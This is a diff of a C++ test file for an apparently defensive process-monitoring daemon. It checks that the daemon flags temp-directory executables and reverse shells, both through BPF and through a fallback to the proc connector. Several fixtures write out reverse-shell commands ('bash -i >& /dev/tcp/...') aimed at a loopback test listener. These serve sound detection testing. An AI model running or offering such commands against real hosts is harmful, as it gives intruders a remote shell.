@@ -1,6 +1,8 @@
-// End-to-end: vigil watch judges each exec the kernel reports (the proc connector), so a
-// program run from /tmp that lives a tenth of a second, and a reverse shell, are reported with
-// their program, arguments and parent.
+// End-to-end: vigil watch judges each exec the kernel reports (its BPF program, and separately
+// the proc connector), so a program run from /tmp that lives a tenth of a second, and a reverse
+// shell, are reported with their program, arguments and parent; with BPF, a shell whose
+// connection becomes its input and output is a reverse shell from the connect event alone; and
+// where BPF is refused the daemon says so and falls back to the proc connector.
 #include <netinet/in.h>
 #include <sys/socket.h>
 
@@ -15,18 +17,39 @@ namespace fs = std::filesystem;
 
 namespace {
 
-std::string process_config(const TempDir& d) {
-  return "state_dir: " + d / "state" + "\nsources:\n  triage: off\n  processes: auto\nsinks:\n  - {type: jsonl, path: " +
-         d / "out.jsonl" + "}\n";
+std::string process_config(const TempDir& d, const std::string& mode) {
+  return "state_dir: " + d / "state" + "\nsources:\n  triage: off\n  processes: " + mode +
+         "\nsinks:\n  - {type: jsonl, path: " + d / "out.jsonl" + "}\n";
 }
 
-// Started with process events on, or skipped with the reason the kernel gave.
-bool start(const TempDir& d, std::unique_ptr<WatchDaemon>& w) {
-  d.write("w.yaml", process_config(d));
+// Started with process events from `mode` (auto, bpf, connector), or false.
+bool start(const TempDir& d, std::unique_ptr<WatchDaemon>& w, const std::string& mode = "auto") {
+  d.write("w.yaml", process_config(d, mode));
   w = std::make_unique<WatchDaemon>(d, std::vector<std::string>{"--config", d / "w.yaml"});
   if (!watch_started(d)) return false;
   return wait_for([&] { return fs::exists(d / "state/status.json"); });
 }
+
+std::string source_of(const TempDir& d) {
+  auto s = nlohmann::json::parse(slurp(d / "state/status.json"), nullptr, false);
+  return s.is_object() && s.contains("processes") ? s["processes"].value("source", "") : "";
+}
+
+// A listener on loopback the test runs: the attacker's end of a reverse shell.
+struct Listener {
+  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  int port = 0;
+  Listener() {
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t len = sizeof a;
+    if (::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 && ::listen(fd, 1) == 0 &&
+        ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len) == 0)
+      port = ntohs(a.sin_port);
+  }
+  ~Listener() { ::close(fd); }
+};
 
 std::string refused(const TempDir& d) {
   for (const auto& f : written(d, "watch.source-problem"))
@@ -43,11 +66,12 @@ std::vector<nlohmann::json> about(const TempDir& d, const std::string& rule, con
 
 }  // namespace
 
-TEST(WatchProcesses, AProgramFromTmpThatLivesAFractionOfASecondIsReported) {
-  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
+// The same check through each source: BPF (which also knows a program that ended before /proc
+// could be read) and the proc connector.
+void short_lived_program_from_tmp(const std::string& mode) {
   TempDir d("vigil-watch-proc");
   std::unique_ptr<WatchDaemon> w;
-  ASSERT_TRUE(start(d, w)) << slurp(d / "err.txt");
+  ASSERT_TRUE(start(d, w, mode)) << slurp(d / "err.txt");
   if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
   std::string copy = d / "updater";
   fs::copy_file("/usr/bin/sleep", copy);
@@ -59,11 +83,118 @@ TEST(WatchProcesses, AProgramFromTmpThatLivesAFractionOfASecondIsReported) {
   EXPECT_EQ(f["process"]["command_line"], copy + " 0.15");
   EXPECT_EQ(f["event"]["action"], "exec");
   EXPECT_FALSE(f["process"]["parent"]["executable"].get<std::string>().empty()) << f.dump();
+  EXPECT_EQ(source_of(d), mode == "bpf" ? "bpf" : "proc connector");
   // A packaged program run from its usual place says nothing.
   run_vigil_as({"/usr/bin/sleep", "0.05"});
   std::this_thread::sleep_for(std::chrono::milliseconds(300));
   EXPECT_TRUE(about(d, "process.temp-executable", "/usr/bin/sleep").empty());
   EXPECT_EQ(w->stop(SIGTERM), 0);
+}
+
+TEST(WatchProcesses, AProgramFromTmpThatLivesAFractionOfASecondIsReported_Bpf) {
+  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
+  short_lived_program_from_tmp("bpf");
+}
+
+TEST(WatchProcesses, AProgramFromTmpThatLivesAFractionOfASecondIsReported_ProcConnector) {
+  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
+  short_lived_program_from_tmp("connector");
+}
+
+// With BPF the exec event carries the program and its arguments: a program that has already
+// ended when the daemon reads /proc is still judged, and marked as such. 300 at once make sure
+// some end first.
+TEST(WatchProcesses, AProgramGoneBeforeItCouldBeReadIsJudgedFromTheKernelsEvent) {
+  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
+  TempDir d("vigil-watch-gone");
+  std::unique_ptr<WatchDaemon> w;
+  ASSERT_TRUE(start(d, w, "bpf")) << slurp(d / "err.txt");
+  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
+  std::string copy = d / "t";
+  fs::copy_file("/usr/bin/true", copy);
+  auto r = run_vigil_as({"/bin/sh", "-c", "i=0; while [ $i -lt 300 ]; do " + copy + " gone-arg; i=$((i+1)); done"});
+  ASSERT_EQ(r.exit_code, 0);
+  auto marked = [&] {
+    for (const auto& f : about(d, "process.temp-executable", copy))
+      if (f.contains("vigil") && f["vigil"].contains("enrichment")) return true;
+    return false;
+  };
+  ASSERT_TRUE(wait_for(marked, 5.0)) << slurp(d / "state/status.json");
+  for (const auto& f : about(d, "process.temp-executable", copy)) EXPECT_EQ(f["process"]["command_line"], copy + " gone-arg");
+  auto counted = [&] {  // status.json is rewritten every second
+    auto status = nlohmann::json::parse(slurp(d / "state/status.json"), nullptr, false);
+    return status.is_object() && status["processes"]["gone"].get<int>() > 0;
+  };
+  EXPECT_TRUE(wait_for(counted, 3.0)) << slurp(d / "state/status.json");
+  EXPECT_EQ(w->stop(SIGTERM), 0);
+}
+
+// `bash -i >& /dev/tcp/…` typed at a prompt (here: in a script, so no command line shows
+// /dev/tcp): only the connect event and the shell's descriptors a moment later tell.
+TEST(WatchProcesses, AShellWhoseConnectionBecomesItsInputIsAReverseShellFromTheConnectEvent) {
+  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
+  TempDir d("vigil-watch-connect");
+  std::unique_ptr<WatchDaemon> w;
+  ASSERT_TRUE(start(d, w, "bpf")) << slurp(d / "err.txt");
+  if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
+  Listener attacker;
+  ASSERT_GT(attacker.port, 0);
+  d.write("job.sh", "bash -i >& /dev/tcp/127.0.0.1/" + std::to_string(attacker.port) + " 0>&1\n");
+  {
+    Planted shell("/bin/bash", {"bash", d / "job.sh"});
+    ASSERT_TRUE(wait_for([&] { return !written(d, "process.reverse-shell").empty(); }, 3.0))
+        << slurp(d / "err.txt") << slurp(d / "out.jsonl");
+  }
+  auto f = written(d, "process.reverse-shell")[0];
+  EXPECT_EQ(f["vigil"]["severity"], "critical");
+  EXPECT_EQ(f["event"]["action"], "connect");
+  EXPECT_EQ(f["destination"]["ip"], "127.0.0.1");
+  EXPECT_EQ(f["destination"]["port"], attacker.port);
+  EXPECT_EQ(f["process"]["command_line"], "bash -i");
+  // A shell that only checks a port (a health check) is a low note, not a reverse shell.
+  Listener service;
+  d.write("check.sh", "exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(service.port) + "\nexec 3>&-\n");
+  auto r = run_vigil_as({"/bin/bash", d / "check.sh"});
+  ASSERT_EQ(r.exit_code, 0);
+  auto noted = [&] {
+    for (const auto& n : written(d, "process.shell-network-connection"))
+      if (n["destination"]["port"] == service.port) return true;
+    return false;
+  };
+  ASSERT_TRUE(wait_for(noted, 3.0)) << slurp(d / "out.jsonl");
+  EXPECT_EQ(written(d, "process.reverse-shell").size(), 1u);
+  for (const auto& n : written(d, "process.shell-network-connection")) EXPECT_EQ(n["vigil"]["severity"], "low");
+  EXPECT_EQ(w->stop(SIGTERM), 0);
+}
+
+// A root daemon without CAP_BPF, CAP_PERFMON and CAP_SYS_ADMIN (as a hardened unit could be):
+// the kernel refuses the program, the daemon says so once and uses the proc connector.
+TEST(WatchProcesses, BpfRefusedFallsBackToTheProcConnectorAndSaysSo) {
+  if (::geteuid() != 0) GTEST_SKIP() << "needs root for the kernel's process events";
+  if (!fs::exists("/usr/bin/setpriv")) GTEST_SKIP() << "needs setpriv (util-linux)";
+  TempDir d("vigil-watch-nobpf");
+  d.write("w.yaml", process_config(d, "auto"));
+  WatchDaemon w(d, "/usr/bin/setpriv",
+                {"setpriv", "--bounding-set=-bpf,-perfmon,-sys_admin", "--inh-caps=-bpf,-perfmon,-sys_admin",
+                 VIGIL_BINARY, "watch", "--config", d / "w.yaml"});
+  ASSERT_TRUE(watch_started(d)) << slurp(d / "err.txt");
+  ASSERT_TRUE(wait_for([&] { return fs::exists(d / "state/status.json"); }));
+  auto said = [&] {
+    for (const auto& f : written(d, "watch.source-problem"))
+      if (f["event"]["reason"] == "fallback") return true;
+    return false;
+  };
+  ASSERT_TRUE(wait_for(said, 3.0)) << slurp(d / "err.txt") << slurp(d / "out.jsonl");
+  auto f = written(d, "watch.source-problem")[0];
+  EXPECT_EQ(f["vigil"]["severity"], "info");
+  EXPECT_NE(f["message"].get<std::string>().find("refused"), std::string::npos) << f.dump();
+  EXPECT_EQ(source_of(d), "proc connector");
+  // And it still sees execs.
+  std::string copy = d / "updater";
+  fs::copy_file("/usr/bin/sleep", copy);
+  run_vigil_as({copy, "0.15"});
+  EXPECT_TRUE(wait_for([&] { return !about(d, "process.temp-executable", copy).empty(); }, 3.0));
+  EXPECT_EQ(w.stop(SIGTERM), 0);
 }
 
 TEST(WatchProcesses, AReverseShellIsReportedFromItsExec) {
@@ -72,23 +203,21 @@ TEST(WatchProcesses, AReverseShellIsReportedFromItsExec) {
   std::unique_ptr<WatchDaemon> w;
   ASSERT_TRUE(start(d, w)) << slurp(d / "err.txt");
   if (auto why = refused(d); !why.empty()) GTEST_SKIP() << why;
-  // The attacker's end: a listener on loopback the test runs.
-  int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-  sockaddr_in a{};
-  a.sin_family = AF_INET;
-  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
-  ASSERT_EQ(::listen(listener, 1), 0);
-  socklen_t len = sizeof a;
-  ::getsockname(listener, reinterpret_cast<sockaddr*>(&a), &len);
-  std::string port = std::to_string(ntohs(a.sin_port));
+  Listener attacker;
+  ASSERT_GT(attacker.port, 0);
+  std::string port = std::to_string(attacker.port);
+  std::vector<nlohmann::json> from_exec;
+  auto seen = [&] {
+    from_exec.clear();
+    for (const auto& f : written(d, "process.reverse-shell"))
+      if (f["event"]["action"] == "exec") from_exec.push_back(f);
+    return !from_exec.empty();
+  };
   {
     Planted shell("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/" + port + " 0>&1"});
-    ASSERT_TRUE(wait_for([&] { return !written(d, "process.reverse-shell").empty(); }, 3.0))
-        << slurp(d / "err.txt") << slurp(d / "out.jsonl");
+    ASSERT_TRUE(wait_for(seen, 3.0)) << slurp(d / "err.txt") << slurp(d / "out.jsonl");
   }
-  ::close(listener);
-  auto f = written(d, "process.reverse-shell")[0];
+  auto f = from_exec[0];
   EXPECT_EQ(f["vigil"]["severity"], "critical");
   EXPECT_NE(f["process"]["command_line"].get<std::string>().find("/dev/tcp/127.0.0.1/" + port), std::string::npos);
   EXPECT_EQ(f["event"]["action"], "exec");
